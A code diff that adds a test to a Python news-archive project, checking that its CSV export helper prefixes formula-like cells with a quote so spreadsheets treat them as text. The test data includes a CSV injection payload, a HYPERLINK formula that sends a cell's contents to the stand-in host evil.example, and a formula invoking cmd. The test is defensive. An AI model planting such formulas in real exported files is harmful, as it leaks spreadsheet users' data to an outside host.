@@ -159,3 +159,11 @@ def test_permanent_failures_are_listed(demo_mirror, tmp_path):
 
 def test_python_dash_m_entry():
     assert subprocess.run([sys.executable, "-m", "newsarchive", "--version"], capture_output=True).returncode == 0
+
+
+def test_a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_text():
+    from newsarchive.offline.export import _cell
+
+    for formula in ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd", "+1", "-2", "\t=1", "\r=1"):
+        assert _cell(formula) == "'" + formula
+    assert _cell("央行降准") == "央行降准" and _cell("") == "" and _cell(3) == 3
